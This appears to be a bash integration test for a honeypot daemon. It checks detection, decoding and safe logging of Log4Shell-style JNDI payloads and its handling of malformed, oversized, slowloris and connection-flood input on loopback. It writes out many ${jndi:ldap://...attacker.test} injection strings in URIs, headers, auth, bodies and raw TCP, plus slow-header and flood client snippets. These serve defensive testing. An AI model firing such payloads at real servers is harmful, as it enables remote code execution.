#!/usr/bin/env bash
# honeypot_http.sh -- the http and tcp listeners end to end with curl and raw
# sockets on loopback (IPv4 and IPv6): payloads in the URI, headers, Basic
# auth, form, JSON, chunked and plain bodies are found and deobfuscated;
# per-path responses; keep-alive; malformed, oversized and slowloris input;
# the connection cap; raw bytes on a tcp port range; no live "${" in the log.
source "$(dirname "$0")/honeypot/common.sh"

read -r PW < <(freeports 1)
read -r PT < <($PEERS freerange 3)
have_v6=1
python3 -c "import socket; s=socket.socket(socket.AF_INET6); s.bind(('::1', $PW))" 2>/dev/null || have_v6=0

printf '<html><title>Intranet portal</title></html>\n' >"$T/index.html"
head -c 262144 /dev/zero | tr '\0' 'B' >"$T/big.bin"
{
    echo "node http-test"
    echo "log_file $T/events.jsonl"
    echo "dedup_window 0"
    echo "status_interval 0"   # no sink.status events (they have no connection fields)
    echo "max_body 4K"
    echo "max_request 8K"
    echo "header_timeout 1s"
    echo "idle_timeout 3s"
    echo "max_connections 40"
    echo "max_memory 2M"
    echo "first_bytes 1K"
    echo "[listener web]"
    echo "protocol http"
    echo "listen 127.0.0.1:$PW"
    [ $have_v6 = 1 ] && echo "listen [::1]:$PW"
    echo "server_header nginx/1.18.0"
    echo "[listener raw]"
    echo "protocol tcp"
    echo "listen 127.0.0.1:$PT-$((PT + 2))"
    echo "[response /]"
    echo "body_file index.html"
    echo "[response /login]"
    echo "status 401"
    echo "header WWW-Authenticate: Basic realm=\"Admin\""
    echo "body Unauthorized"
    echo "[response /big.bin]"
    echo "content_type application/octet-stream"
    echo "body_file big.bin"
    echo "[response /api/*]"
    echo "content_type application/json"
    echo 'body {"status":"ok"}'
} >"$T/hp.conf"
hp_start "$T/hp.conf"
EV=$T/events.jsonl
U=http://127.0.0.1:$PW

# ---- payloads where attackers put them ------------------------------------
curl -sS -o /dev/null "$U/search?q=%24%7Bjndi%3Aldap%3A%2F%2Furi.attacker.test%2Fa%7D"
curl -sS -o /dev/null -H 'X-Api-Version: ${${lower:j}ndi:ldap://hdr.attacker.test/b}' "$U/h"
auth=$(printf '%s' '${jndi:ldap://auth.attacker.test/c}:pw' | base64 -w0)
curl -sS -o /dev/null -H "Authorization: Basic $auth" "$U/login"
curl -sS -o /dev/null --data 'user=%24%7Bjndi%3Armi%3A%2F%2Fform.attacker.test%2Fd%7D&pw=x' "$U/login"
curl -sS -o /dev/null -H 'Content-Type: application/json' \
    --data '{"user":{"name":"\u0024{jndi:dns://json.attacker.test/e}"}}' "$U/api/v1"
printf 'note=hello ${jndi:ldap://chunk.attacker.test/f} bye' >"$T/body.txt"
curl -sS -o /dev/null -H 'Transfer-Encoding: chunked' -H 'Content-Type: text/plain' \
    --data-binary @"$T/body.txt" "$U/upload"
wait_events "$EV" '"event":"http.request"' 6

check_finding() { # where-prefix callback
    local got
    got=$(ev_query "$EV" "[f['where'] for f in e.get('findings', []) if f.get('callback') == '$2']")
    echo "$got" | grep -q "\"$1" || fail "no finding with callback $2 at $1 (got: $got)"
    ok "finding $2 at $1"
}
check_finding request-line ldap://uri.attacker.test/a
check_finding header:X-Api-Version ldap://hdr.attacker.test/b
check_finding header:Authorization ldap://auth.attacker.test/c
check_finding body rmi://form.attacker.test/d
check_finding body dns://json.attacker.test/e
check_finding body ldap://chunk.attacker.test/f

# the decoded body of the chunked request is what was scanned and logged
ev_query "$EV" "e['http'].get('body') if e['http']['uri'] == '/upload' else None" |
    grep -qF 'note=hello ${jndi:ldap://chunk.attacker.test/f} bye' || fail "chunked body not decoded"
ok "chunked body decoded"

# every event has the common fields
n=$(ev_query "$EV" "all(k in e for k in ('time','event_id','conn_id','listener','protocol','src_ip','src_port','dst_ip','dst_port','node'))" | grep -c true)
total=$(grep -c . "$EV")
[ "$n" = "$total" ] || fail "only $n of $total events have all common fields"
ok "common fields in all $total events"

# no live "${" anywhere in the log (JSON escapes "$" as \u0024)
if grep -qF '${' "$EV"; then fail "a live \${ in the JSON log"; fi
grep -qF '\u0024{jndi' "$EV" || fail "payloads not kept (escaped) in the log"
ok "no live \${ in the log"

# ---- Expect: 100-continue is answered (curl would otherwise wait 5 s)
start=$(date +%s%N)
head -c 3000 /dev/zero | tr '\0' 'x' >"$T/body3k"
code=$(curl -sS -o /dev/null -w '%{http_code}' --expect100-timeout 5 -H 'Expect: 100-continue' \
    --data-binary @"$T/body3k" "$U/upload-expect")
ms=$(( ($(date +%s%N) - start) / 1000000 ))
[ "$code" = 404 ] && [ "$ms" -lt 3000 ] || fail "100-continue: status $code after ${ms} ms"
ok "Expect: 100-continue answered (${ms} ms)"

# ---- plausible responses per path ------------------------------------------
code=$(curl -sS -o "$T/r1" -w '%{http_code}' "$U/")
[ "$code" = 200 ] && grep -q "Intranet portal" "$T/r1" || fail "/ should serve body_file ($code)"
curl -sS -D "$T/h2" -o "$T/r2" "$U/login" >/dev/null
grep -q "^HTTP/1.1 401" "$T/h2" && grep -qi '^WWW-Authenticate: Basic realm="Admin"' "$T/h2" ||
    fail "/login should be 401 with WWW-Authenticate"
grep -qi "^Server: nginx/1.18.0" "$T/h2" || fail "server_header not used"
code=$(curl -sS -o "$T/r3" -w '%{http_code} %{content_type}' "$U/api/users?id=1")
[ "$code" = "200 application/json" ] && grep -q '"status":"ok"' "$T/r3" || fail "/api/ response: $code"
code=$(curl -sS -o /dev/null -w '%{http_code}' "$U/administrator")
[ "$code" = 404 ] || fail "/administrator should be 404, got $code"
code=$(curl -sS -I -o "$T/r4" -w '%{http_code}' "$U/")
[ "$code" = 200 ] || fail "HEAD / got $code"
ok "per-path responses (200 body_file, 401 + header, JSON, 404, HEAD)"

# ---- keep-alive: two requests on one connection ------------------------------
curl -sS -o /dev/null -o /dev/null "$U/ka1" "$U/ka2"
wait_events "$EV" '"uri":"/ka2"'
c1=$(ev_query "$EV" "e['conn_id'] if e['http']['uri'] == '/ka1' else None")
c2=$(ev_query "$EV" "e['conn_id'] if e['http']['uri'] == '/ka2' else None")
r2=$(ev_query "$EV" "e['http']['request_number'] if e['http']['uri'] == '/ka2' else None")
[ -n "$c1" ] && [ "$c1" = "$c2" ] && [ "$r2" = 2 ] || fail "keep-alive: conn ids $c1 / $c2, request $r2"
ok "keep-alive: one conn_id, request_number 2"

# ---- a client pipelining 100 requests for a 256 KiB body without reading:
# the daemon stops reading from it instead of queueing 25 MiB (max_memory 2M)
python3 - "$PW" <<'EOF'
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
s.sendall(b"GET /big.bin HTTP/1.1\r\nHost: x\r\n\r\n" * 100)
time.sleep(1.0)
got = b""
while got.count(b"HTTP/1.1 200") < 100 or not got.endswith(b"B" * 1000):
    c = s.recv(1 << 20)
    if not c:
        break
    got += c
n = got.count(b"HTTP/1.1 200")
assert n == 100 and len(got) > 100 * 262144, (n, len(got))
EOF
ok "pipelined 100 x 256 KiB to a non-reading client: all served within max_memory 2M"

# ---- IPv6 ---------------------------------------------------------------------
if [ $have_v6 = 1 ]; then
    curl -sS -g -o /dev/null -H 'Referer: ${jndi:ldap://v6.attacker.test/g}' "http://[::1]:$PW/v6"
    wait_events "$EV" '"src_ip":"::1"'
    check_finding header:Referer ldap://v6.attacker.test/g
fi

# ---- malformed, oversized, slow ------------------------------------------------
out=$($PEERS send "$PW" "00ff13370a0d0a0d0a" 3)
case "$out" in 485454502f312e3120343030*) ;; *) fail "binary input should get 400, got $out" ;; esac
wait_events "$EV" '"event":"http.bad_request"'
ok "binary junk: 400 and an http.bad_request event"

big=$(python3 -c "print('GET / HTTP/1.1\r\nX-Pad: ' + 'A'*9000 + '\r\n\r\n', end='')" | od -An -v -tx1 | tr -d " \n")
out=$($PEERS send "$PW" "$big" 3)
case "$out" in 485454502f312e3120343331*) ;; *) fail "oversized head should get 431, got ${out:0:40}" ;; esac
ok "oversized head: 431"

# a declared body larger than max_body: first 4K kept and scanned, then closed
python3 - "$PW" <<'EOF'
import socket, sys
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=5)
body = b"x" * 100 + b"${jndi:ldap://big.attacker.test/h}" + b"y" * 20000
s.sendall(b"POST /big HTTP/1.1\r\nHost: x\r\nContent-Length: %d\r\n\r\n" % len(body) + body)
r = s.recv(100)
assert r.startswith(b"HTTP/1.1 "), r
EOF
wait_events "$EV" '"uri":"/big"'
ev_query "$EV" "e['http'].get('body_truncated') if e['http']['uri'] == '/big' else None" | grep -q true ||
    fail "big body not marked truncated"
check_finding body ldap://big.attacker.test/h
ok "oversized body truncated at max_body, still scanned"

# slowloris: an incomplete head is cut off at header_timeout (1 s).  The time
# is taken inside the client, from connect to the close it sees (interpreter
# start-up on a loaded machine is not the daemon's time).
el=$(python3 - "$PW" <<'EOF'
import socket, sys, time
s = socket.create_connection(("127.0.0.1", int(sys.argv[1])), timeout=10)
t0 = time.monotonic()
s.sendall(b"GET / HTTP/1.1\r\n")
closed = None
for i in range(80):               # one header byte every 0.1 s, never finishing
    try:
        s.sendall(b"X")
    except OSError:
        closed = time.monotonic()
        break
    s.settimeout(0.1)
    try:
        if s.recv(4096) == b"":   # the daemon closed
            closed = time.monotonic()
            break
    except socket.timeout:
        pass
    except OSError:
        closed = time.monotonic()
        break
print("%.3f" % (closed - t0) if closed else "never")
EOF
)
[ "$el" != never ] || fail "slowloris connection never closed (header_timeout 1s)"
python3 -c "import sys; sys.exit(0 if $el < 3.0 else 1)" || fail "slowloris connection lived ${el}s (header_timeout 1s)"
wait_events "$EV" '"reason":"header timeout"'
ok "slowloris cut after ${el}s with reason header timeout"

# ---- connection cap (40): 60 idle connections, the extra ones are closed ---------
python3 - "$PW" <<'EOF'
import socket, sys, time
socks = [socket.create_connection(("127.0.0.1", int(sys.argv[1]))) for _ in range(60)]
time.sleep(0.5)
closed = 0
for s in socks:
    s.settimeout(0.05)
    try:
        if s.recv(1) == b"":
            closed += 1
    except socket.timeout:
        pass
    except ConnectionResetError:
        closed += 1
print("closed", closed)
assert closed >= 20, closed
for s in socks:
    s.close()
EOF
wait_events "$EV" '"event":"connection.rejected"'
n=$(grep -c '"event":"connection.rejected"' "$EV")
[ "$n" -eq 20 ] || fail "want one connection.rejected event per refused connection (20), got $n"
sleep 0.5 # let the daemon see those 60 closes
ok "connection cap enforced (20 connection.rejected events)"

# ---- tcp listener: raw bytes on the second port of the range -------------------------
P2=$((PT + 1))
$PEERS send "$P2" "$(printf 'SSH-2.0-evil ${jndi:ldap://raw.attacker.test/i}\r\n' | od -An -v -tx1 | tr -d " \n")00ff" 0.3 >/dev/null
wait_events "$EV" "\"dst_port\":$P2"
ev_query "$EV" "e['first_bytes']['text'] if e['event'] == 'tcp.session' else None" | grep -qF 'SSH-2.0-evil' ||
    fail "tcp first bytes not recorded"
check_finding first_bytes ldap://raw.attacker.test/i
python3 -c "
import socket; s = socket.create_connection(('127.0.0.1', $((PT + 2)))); s.sendall(b'Z' * 10000); s.close()"
wait_events "$EV" "\"dst_port\":$((PT + 2))"
len=$(ev_query "$EV" "len(e['first_bytes']['text']) if e['dst_port'] == $((PT + 2)) else None")
[ "$len" -le 1024 ] && [ "$len" -ge 1000 ] || fail "first_bytes not bounded at 1K: $len"
ok "tcp port range: first bytes recorded (bounded, $len hex bytes kept)"

hp_stop
grep -q "stopped:" "$T/hp.err" || fail "no shutdown summary"
echo "PASS"
